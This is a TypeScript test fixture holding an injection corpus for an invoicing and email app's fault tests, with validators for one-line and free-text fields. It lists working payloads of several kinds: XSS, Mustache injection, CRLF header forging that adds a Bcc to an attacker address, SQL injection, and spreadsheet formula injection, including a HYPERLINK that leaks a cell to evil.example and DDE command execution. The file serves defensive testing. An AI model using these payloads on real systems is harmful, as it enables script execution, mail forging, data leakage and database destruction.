/**
 * The injection corpus: hostile strings a customer record, an ERP export, a pasted note or a template
 * may carry, each tagged with what it attacks. The fault tests put every one through every text field
 * that is stored, shown in the window and written into an email, and check that nothing executes,
 * nothing splits a mail header, and that each value is either kept exactly or refused with a clear
 * field error (never silently mangled).
 *
 * Categories:
 * - html: markup and script that would run if a value reached innerHTML or an attribute unescaped.
 * - template: Mustache syntax that would re-render inside a merged value (a name that merges others).
 * - markdown: links, images and raw HTML that Markdown would turn into markup if a value were parsed.
 * - header: CR/LF and encodings of them that forge mail headers (Bcc:) when a value reaches one.
 * - long: a 100 kB value and a 10,000-character word (layout, line folding, field limits).
 * - bidi: right-to-left overrides and isolates (U+202E, U+2066–2069), which can disguise text.
 * - zero-width: joiners and spaces with no width; emoji: ZWJ sequences and skin tones.
 * - combining: stacked combining marks ("Zalgo").
 * - control: NUL and other C0/C1 control characters.
 * - surrogate: lone UTF-16 surrogates, which are not text at all and cannot be stored as UTF-8.
 * - sql: quotes and comment markers that break a statement built by concatenation.
 * - formula: cells a spreadsheet runs as a formula when a CSV/XLSX export is opened (OWASP CSV injection).
 */
export type InjectionCategory =
  'html' | 'template' | 'markdown' | 'header' | 'long' | 'bidi' | 'zero-width' | 'emoji' | 'combining' | 'control' | 'surrogate' | 'sql' | 'formula';

export interface InjectionCase {
  /** Short, unique, safe in a file name or a customer id. */
  id: string;
  category: InjectionCategory;
  value: string;
  /** What the string would do if a sink mishandled it. */
  attack: string;
}

const LONG_100K = 'Invoice dispute narrative. '.repeat(3704).slice(0, 100_000);
const LONG_WORD = 'W'.repeat(10_000);
/** Just inside an import's cell limit, and still longer than a mail header line may be. */
const IMPORTABLE_WORD = 'V'.repeat(990);

// prettier-ignore
export const INJECTION_CORPUS: readonly InjectionCase[] = [
  { id: 'script', category: 'html', value: '<script>window.__pwned=1;alert("script")</script>', attack: 'a script element reaching innerHTML' },
  { id: 'img-onerror', category: 'html', value: '<img src=x onerror="window.__pwned=2;alert(2)">', attack: 'an event handler on an image that fails to load' },
  { id: 'svg-onload', category: 'html', value: '<svg onload="window.__pwned=3;alert(3)"><circle r=1 /></svg>', attack: 'an SVG load handler' },
  { id: 'js-url', category: 'html', value: 'javascript:window.__pwned=4;alert(4)', attack: 'a javascript: URL in an href or src' },
  { id: 'iframe-srcdoc', category: 'html', value: '"><iframe srcdoc="<script>parent.__pwned=5;alert(5)</script>"></iframe>', attack: 'breaking out of a quoted attribute into a frame' },
  { id: 'attr-breakout', category: 'html', value: "' onmouseover='window.__pwned=6' x='", attack: 'breaking out of a single-quoted attribute' },
  { id: 'css-expression', category: 'html', value: '<div style="width:expression(alert(7));background:url(javascript:alert(7))">css</div>', attack: 'legacy CSS expression() and url(javascript:)' },
  { id: 'html-entities', category: 'html', value: '&lt;b&gt;not bold&lt;/b&gt; &amp; &#x3C;i&#x3E;', attack: 'double-decoding of entities' },
  { id: 'mustache-name', category: 'template', value: '{{customer.name}} {{sender.email}}', attack: 'a value that merges other fields when re-rendered' },
  { id: 'mustache-triple', category: 'template', value: '{{{invoiceTable}}} {{&customer.name}}', attack: 'an unescaped merge inside a value' },
  { id: 'mustache-section', category: 'template', value: '{{#customer}}{{name}}{{/customer}}{{^x}}inverted{{/x}}', attack: 'sections that loop or hide text' },
  { id: 'mustache-delimiters', category: 'template', value: '{{=<% %>=}}<% customer.name %>', attack: 'changing the delimiters so later text is read as tags' },
  { id: 'markdown-link', category: 'markdown', value: '[Pay here](javascript:alert(8)) [ok](https://evil.example/phish)', attack: 'a Markdown link with a script or phishing target' },
  { id: 'markdown-image', category: 'markdown', value: '![pixel](https://tracker.example/p.gif) ![x](javascript:alert(9))', attack: 'a remote tracking image' },
  { id: 'markdown-raw-html', category: 'markdown', value: '**bold** <b onclick="alert(10)">raw</b>\n\n# Heading', attack: 'raw HTML and block syntax in a value' },
  { id: 'crlf-bcc', category: 'header', value: 'Acme\r\nBcc: evil@attacker.example', attack: 'a Bcc header forged by CRLF in a header value' },
  { id: 'crlf-double', category: 'header', value: 'Acme\r\n\r\n<h1>forged body</h1>', attack: 'ending the headers early so the rest becomes the body' },
  { id: 'url-encoded-crlf', category: 'header', value: 'Acme%0d%0aCc:%20evil@attacker.example', attack: 'percent-encoded CRLF decoded by a careless sink' },
  { id: 'bare-lf', category: 'header', value: 'Acme\nTo: evil@attacker.example', attack: 'a bare LF, which some mail servers treat as a line end' },
  { id: 'bare-cr', category: 'header', value: 'Acme\rCc: evil@attacker.example', attack: 'a bare CR' },
  { id: 'long-100k', category: 'long', value: LONG_100K, attack: 'a 100 kB value (limits, memory, line folding)' },
  { id: 'long-word', category: 'long', value: LONG_WORD, attack: 'one 10,000-character word (layout overflow, header folding)' },
  { id: 'long-importable-word', category: 'long', value: IMPORTABLE_WORD, attack: 'one 990-character word, as long as an imported cell may be (header folding)' },
  { id: 'rlo', category: 'bidi', value: 'Invoice \u202Efdp.exe\u202C paid', attack: 'a right-to-left override that disguises text' },
  { id: 'isolates', category: 'bidi', value: '\u2066admin\u2069 \u2067عميل\u2069 \u2068mixed\u2069', attack: 'bidi isolates around left-to-right and Arabic text' },
  { id: 'zero-width', category: 'zero-width', value: 'Ac\u200Bme\u200C Co\u200D\uFEFF', attack: 'invisible characters that make two names look equal' },
  { id: 'emoji-zwj', category: 'emoji', value: 'Team 👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 👋🏿 💸', attack: 'ZWJ sequences and skin-tone modifiers (several code points per glyph)' },
  { id: 'combining', category: 'combining', value: 'Z\u0351\u0352\u0353a\u0300\u0301\u0302\u0303l\u0489g\u0334o e\u0301 n\u0303', attack: 'stacked combining marks' },
  { id: 'nul', category: 'control', value: 'Acme\u0000Tools', attack: 'NUL, which truncates C strings and some parsers' },
  { id: 'c0-controls', category: 'control', value: 'Bell\u0007 Back\u0008 Esc\u001B[31m Vtab\u000B Form\u000C Del\u007F', attack: 'C0 controls and a terminal escape sequence' },
  { id: 'c1-controls', category: 'control', value: 'Next\u0085Line CSI\u009B31m', attack: 'C1 controls (NEL is a line break to some parsers)' },
  { id: 'line-separators', category: 'control', value: 'Line\u2028Separator\u2029Paragraph', attack: 'Unicode line and paragraph separators' },
  { id: 'lone-high-surrogate', category: 'surrogate', value: 'Acme \uD800 Tools', attack: 'a lone high surrogate' },
  { id: 'lone-low-surrogate', category: 'surrogate', value: 'Acme \uDFFF Tools', attack: 'a lone low surrogate' },
  { id: 'sql-drop', category: 'sql', value: "Robert'); DROP TABLE customers;--", attack: 'a statement built by concatenation' },
  { id: 'sql-or', category: 'sql', value: "' OR '1'='1' /* \" OR \"\"=\" */", attack: 'a tautology with comments and double quotes' },
  { id: 'formula-hyperlink', category: 'formula', value: '=HYPERLINK("https://evil.example/?d="&A1,"Click to pay")', attack: 'a formula that leaks a cell when clicked' },
  { id: 'formula-cmd', category: 'formula', value: '+cmd|\' /C calc\'!A0', attack: 'DDE command execution' },
  { id: 'formula-minus', category: 'formula', value: '-2+3+cmd|\' /C calc\'!A0', attack: 'a formula starting with minus' },
  { id: 'formula-at', category: 'formula', value: '@SUM(1+9)*cmd|\' /C calc\'!A0', attack: 'a formula starting with @' },
  { id: 'formula-tab', category: 'formula', value: '\t=1+1', attack: 'a formula behind a leading tab' },
  { id: 'formula-semicolon', category: 'formula', value: 'Acme;=1+1', attack: 'a formula after a semicolon, a cell break where Excel reads ; as the separator' },
];

/** Characters no single-line field (a name, a subject, a reference) may hold: C0/C1 controls and line separators. */
const LINE_BREAKING = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/;
/** Characters no text at all may hold: controls other than tab and line breaks. */
const NEVER_TEXT = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/;
const LONE_SURROGATE = /[\uD800-\uDFFF]/u;

const fits = (value: string, max: number, refused: RegExp): boolean => {
  // Fields are trimmed before they are checked: a leading tab or a trailing newline is only whitespace.
  const trimmed = value.trim();
  return trimmed.length > 0 && trimmed.length <= max && !refused.test(trimmed) && !LONE_SURROGATE.test(trimmed);
};

/** Whether the value is acceptable in a one-line field as the app's contract defines it. */
export const fitsOneLine = (value: string, max: number): boolean => fits(value, max, LINE_BREAKING);

/** Whether the value is acceptable in a free-text field (notes): line breaks and tabs allowed. */
export const fitsFreeText = (value: string, max: number): boolean => fits(value, max, NEVER_TEXT);

/** The corpus cases a field of that kind must accept (and then store and show exactly). */
export const acceptedOneLine = (max: number): InjectionCase[] => INJECTION_CORPUS.filter((c) => fitsOneLine(c.value, max));
export const acceptedFreeText = (max: number): InjectionCase[] => INJECTION_CORPUS.filter((c) => fitsFreeText(c.value, max));

/** A spreadsheet runs a cell starting with one of these as a formula (OWASP). */
export const FORMULA_START = /^[=+\-@\t\r]/;
